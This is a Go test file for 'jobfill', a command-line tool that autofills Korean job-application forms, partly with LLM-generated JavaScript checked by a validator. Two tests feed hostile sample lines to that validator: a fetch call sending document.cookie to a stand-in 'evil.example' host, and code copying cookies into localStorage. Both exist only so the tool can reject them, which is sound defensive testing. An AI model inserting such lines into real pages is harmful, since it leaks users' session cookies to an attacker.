// File: cmd/cmd_test.go
package cmd

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/spf13/cobra"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap/zaptest"

	"github.com/xkilldash9x/jobfill/internal/autofill"
	"github.com/xkilldash9x/jobfill/internal/browser/session"
	"github.com/xkilldash9x/jobfill/internal/config"
	"github.com/xkilldash9x/jobfill/internal/matcher"
	"github.com/xkilldash9x/jobfill/internal/profile"
)

const formPage = `<!DOCTYPE html>
<html><body>
<form id="apply">
  <label for="name">이름</label><input type="text" id="name" name="name">
  <label for="email">이메일</label><input type="email" id="email" name="email">
</form>
</body></html>`

const profileYAML = `
personalInfo:
  name: 홍길동
  email: hong@example.com
  password: hunter2
aiSettings:
  mode: local
  apiKey: secret-key
`

// executeCommand runs a fresh command tree and returns everything it printed.
func executeCommand(t *testing.T, stdin string, args ...string) (string, error) {
	t.Helper()
	root := NewRootCommand()
	buf := new(bytes.Buffer)
	root.SetOut(buf)
	root.SetErr(buf)
	root.SetIn(strings.NewReader(stdin))
	root.SetArgs(args)
	err := root.ExecuteContext(context.Background())
	return buf.String(), err
}

// executeCommandNoPreRun is for testing argument and flag validation without
// triggering the config loading in PersistentPreRunE.
func executeCommandNoPreRun(t *testing.T, args ...string) (string, error) {
	t.Helper()
	root, _ := newRootCmd()
	root.PersistentPreRunE = nil
	buf := new(bytes.Buffer)
	root.SetOut(buf)
	root.SetErr(buf)
	root.SetArgs(args)
	err := root.ExecuteContext(context.Background())
	return buf.String(), err
}

// workspace writes a profile, a page and a config into a temp dir.
type workspace struct {
	dir     string
	profile string
	page    string
	config  string
}

func newWorkspace(t *testing.T, extraConfig string) workspace {
	t.Helper()
	dir := t.TempDir()
	w := workspace{
		dir:     dir,
		profile: filepath.Join(dir, "profile.yaml"),
		page:    filepath.Join(dir, "form.html"),
		config:  filepath.Join(dir, "jobfill.yaml"),
	}
	require.NoError(t, os.WriteFile(w.profile, []byte(profileYAML), 0o600))
	require.NoError(t, os.WriteFile(w.page, []byte(formPage), 0o600))

	cfg := `
logger:
  level: error
injector:
  verify_delay: 1ms
profile:
  source: file
  path: ` + w.profile + `
` + extraConfig
	require.NoError(t, os.WriteFile(w.config, []byte(cfg), 0o600))
	return w
}

// -- Test Cases: Root --

func TestRootCmd_Subcommands(t *testing.T) {
	root := NewRootCommand()
	names := map[string]bool{}
	for _, c := range root.Commands() {
		names[c.Name()] = true
	}
	for _, want := range []string{"fill", "ai-fill", "validate-code", "profile", "version"} {
		assert.True(t, names[want], "missing subcommand %s", want)
	}
}

func TestConfigFileAndFlagOverride(t *testing.T) {
	w := newWorkspace(t, "matcher:\n  strategy: occurrence\n")
	root, cfgPtr := newRootCmd()

	var versionCmd *cobra.Command
	for _, c := range root.Commands() {
		if c.Name() == "version" {
			versionCmd = c
		}
	}
	require.NotNil(t, versionCmd)

	other := filepath.Join(w.dir, "other.json")
	root.SetOut(new(bytes.Buffer))
	root.SetArgs([]string{"--config", w.config, "--profile", other, "version"})
	require.NoError(t, root.ExecuteContext(context.Background()))

	cfg := *cfgPtr
	require.NotNil(t, cfg)
	assert.Equal(t, config.StrategyOccurrence, cfg.Matcher().Strategy)
	assert.Equal(t, other, cfg.Profile().Path)
	assert.Equal(t, config.ModeAPI, cfg.LLM().Mode, "unset keys keep their defaults")
}

func TestInvalidConfigFails(t *testing.T) {
	w := newWorkspace(t, "executor:\n  context: iframe\n")
	_, err := executeCommand(t, "", "--config", w.config, "version")
	require.Error(t, err)
	assert.Contains(t, err.Error(), "executor")
}

func TestVersionCmd(t *testing.T) {
	w := newWorkspace(t, "")
	out, err := executeCommand(t, "", "--config", w.config, "version")
	require.NoError(t, err)
	assert.Contains(t, out, "jobfill "+Version)
}

// -- Test Cases: validate-code --

func TestValidateCodeCmd(t *testing.T) {
	w := newWorkspace(t, "")

	t.Run("accepts helper-only code", func(t *testing.T) {
		script := filepath.Join(w.dir, "ok.js")
		require.NoError(t, os.WriteFile(script, []byte(`__setInputValue(__getById('name'), '홍길동');`), 0o600))
		out, err := executeCommand(t, "", "--config", w.config, "validate-code", script)
		require.NoError(t, err)
		assert.Contains(t, out, "ok:")
	})

	t.Run("names the denied capability", func(t *testing.T) {
		script := filepath.Join(w.dir, "bad.js")
		require.NoError(t, os.WriteFile(script, []byte(`fetch('https://evil.example/' + document.cookie)`), 0o600))
		out, err := executeCommand(t, "", "--config", w.config, "validate-code", script)
		require.Error(t, err)
		assert.Contains(t, out, "rejected: fetch API")
	})

	t.Run("requires exactly one file", func(t *testing.T) {
		_, err := executeCommandNoPreRun(t, "validate-code")
		require.Error(t, err)
	})
}

// -- Test Cases: profile --

func TestProfileShowRedacts(t *testing.T) {
	w := newWorkspace(t, "")
	out, err := executeCommand(t, "", "--config", w.config, "profile", "show")
	require.NoError(t, err)
	assert.Contains(t, out, "홍길동")
	assert.Contains(t, out, "domain: example.com", "legacy emails are shown split")
	assert.NotContains(t, out, "hunter2")
	assert.NotContains(t, out, "secret-key")

	out, err = executeCommand(t, "", "--config", w.config, "profile", "show", "--reveal")
	require.NoError(t, err)
	assert.Contains(t, out, "hunter2")
}

func TestProfileShowWithoutProfile(t *testing.T) {
	w := newWorkspace(t, "")
	out, err := executeCommand(t, "", "--config", w.config, "--profile", filepath.Join(w.dir, "none.yaml"), "profile", "show")
	require.NoError(t, err)
	assert.Contains(t, out, "저장된 데이터가 없습니다.")
}

func TestProfileImportToFile(t *testing.T) {
	w := newWorkspace(t, "")
	src := filepath.Join(w.dir, "export.json")
	require.NoError(t, os.WriteFile(src, []byte(`{"personalInfo":{"name":"김철수","birthdate":"1990-01-02"}}`), 0o600))
	dest := filepath.Join(w.dir, "nested", "imported.json")

	out, err := executeCommand(t, "", "--config", w.config, "--profile", dest, "profile", "import", src)
	require.NoError(t, err)
	assert.Contains(t, out, dest)

	data, err := os.ReadFile(dest)
	require.NoError(t, err)
	var stored map[string]any
	require.NoError(t, json.Unmarshal(data, &stored))
	pi := stored["personalInfo"].(map[string]any)
	assert.Equal(t, "김철수", pi["name"])
	assert.Equal(t, map[string]any{"year": float64(1990), "month": float64(1), "day": float64(2)}, pi["birthdate"])
}

// -- Test Cases: fill --

func TestFillCmd_RequiresTarget(t *testing.T) {
	w := newWorkspace(t, "")
	_, err := executeCommand(t, "", "--config", w.config, "fill", "--yes")
	require.Error(t, err)
	assert.Contains(t, err.Error(), "--url or --html")
}

func TestFillCmd_FillsOfflinePage(t *testing.T) {
	w := newWorkspace(t, "")
	outFile := filepath.Join(w.dir, "filled.html")

	out, err := executeCommand(t, "", "--config", w.config, "fill", "--html", w.page, "--yes", "--out", outFile)
	require.NoError(t, err)
	assert.Contains(t, out, "자동완성되었습니다")

	filled, err := os.ReadFile(outFile)
	require.NoError(t, err)
	assert.Contains(t, string(filled), `value="홍길동"`)
	assert.Contains(t, string(filled), `value="hong@example.com"`)
}

func TestFillCmd_Declined(t *testing.T) {
	w := newWorkspace(t, "")
	outFile := filepath.Join(w.dir, "filled.html")

	out, err := executeCommand(t, "n\n", "--config", w.config, "fill", "--html", w.page, "--out", outFile)
	require.NoError(t, err)
	assert.Contains(t, out, "취소되었습니다.")
	assert.NoFileExists(t, outFile)
}

func TestFillCmd_UnknownStrategy(t *testing.T) {
	w := newWorkspace(t, "")
	_, err := executeCommand(t, "", "--config", w.config, "fill", "--html", w.page, "--yes", "--strategy", "fuzzy")
	require.Error(t, err)
}

func TestWatchAndRefillRewritesOutput(t *testing.T) {
	w := newWorkspace(t, "")
	logger := zaptest.NewLogger(t)
	require.NoError(t, os.WriteFile(w.profile, []byte("personalInfo:\n  name: 홍길동\n"), 0o600))

	page, err := session.FromHTML(logger, formPage)
	require.NoError(t, err)
	src, err := profile.NewFileSource(w.profile, logger)
	require.NoError(t, err)
	orch, err := autofill.New(page, matcher.NewWeighted(matcher.DefaultWeightedThreshold),
		config.InjectorConfig{VerifyDelay: -1}, autofill.NewLogNotifier(logger), logger)
	require.NoError(t, err)
	trigger, err := autofill.NewTrigger(orch, src, logger)
	require.NoError(t, err)

	outFile := filepath.Join(w.dir, "filled.html")
	writeOut := func(context.Context) error {
		f, err := os.Create(outFile)
		if err != nil {
			return err
		}
		defer f.Close()
		return page.Render(f)
	}

	ctx, cancel := context.WithCancel(context.Background())
	_, err = trigger.Fire(ctx)
	require.NoError(t, err)
	require.NoError(t, writeOut(ctx))

	done := make(chan error, 1)
	go func() { done <- watchAndRefill(ctx, io.Discard, trigger, writeOut, logger) }()

	// The second version adds an email; the watcher may not be armed yet,
	// so keep saving until the refill shows up in the written copy.
	updated := []byte("personalInfo:\n  name: 홍길동\n  email: hong@example.com\n")
	require.Eventually(t, func() bool {
		_ = os.WriteFile(w.profile, updated, 0o600)
		data, err := os.ReadFile(outFile)
		return err == nil && strings.Contains(string(data), `value="hong@example.com"`)
	}, 5*time.Second, 100*time.Millisecond)

	cancel()
	require.NoError(t, <-done)
}

// -- Test Cases: ai-fill --

// fakeOllama answers the fill prompt with code and the follow-up with no
// remaining fields.
func fakeOllama(t *testing.T, code string) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		assert.Equal(t, "/api/generate", r.URL.Path)
		var req struct {
			Prompt string `json:"prompt"`
		}
		require.NoError(t, json.NewDecoder(r.Body).Decode(&req))

		answer := `{"fields":[]}`
		if strings.Contains(req.Prompt, "Generate JavaScript code ONLY") {
			b, _ := json.Marshal(map[string]string{"code": code})
			answer = string(b)
		}
		_ = json.NewEncoder(w).Encode(map[string]any{"response": answer, "done": true})
	}))
	t.Cleanup(srv.Close)
	return srv
}

func TestAIFillCmd_Sandbox(t *testing.T) {
	srv := fakeOllama(t, `__setInputValue(__getById('name'), '홍길동');`)
	w := newWorkspace(t, `
llm:
  settle_delay: 1ms
  requests_per_minute: 0
  local:
    endpoint: `+srv.URL+`
executor:
  context: sandbox
`)
	outFile := filepath.Join(w.dir, "ai.html")

	out, err := executeCommand(t, "", "--config", w.config, "ai-fill", "--html", w.page, "--yes", "--out", outFile)
	require.NoError(t, err, out)

	filled, err := os.ReadFile(outFile)
	require.NoError(t, err)
	assert.Contains(t, string(filled), `value="홍길동"`)
}

func TestAIFillCmd_RejectsDeniedCode(t *testing.T) {
	srv := fakeOllama(t, `localStorage.setItem('x', document.cookie)`)
	w := newWorkspace(t, `
llm:
  settle_delay: 1ms
  requests_per_minute: 0
  local:
    endpoint: `+srv.URL+`
executor:
  context: sandbox
`)
	out, err := executeCommand(t, "", "--config", w.config, "ai-fill", "--html", w.page, "--yes")
	require.Error(t, err)
	assert.Contains(t, out, "금지된 패턴 발견 - localStorage")
}

func TestAIFillCmd_BadExecutorFlag(t *testing.T) {
	w := newWorkspace(t, "")
	_, err := executeCommand(t, "", "--config", w.config, "ai-fill", "--html", w.page, "--yes", "--executor", "iframe")
	require.Error(t, err)
}
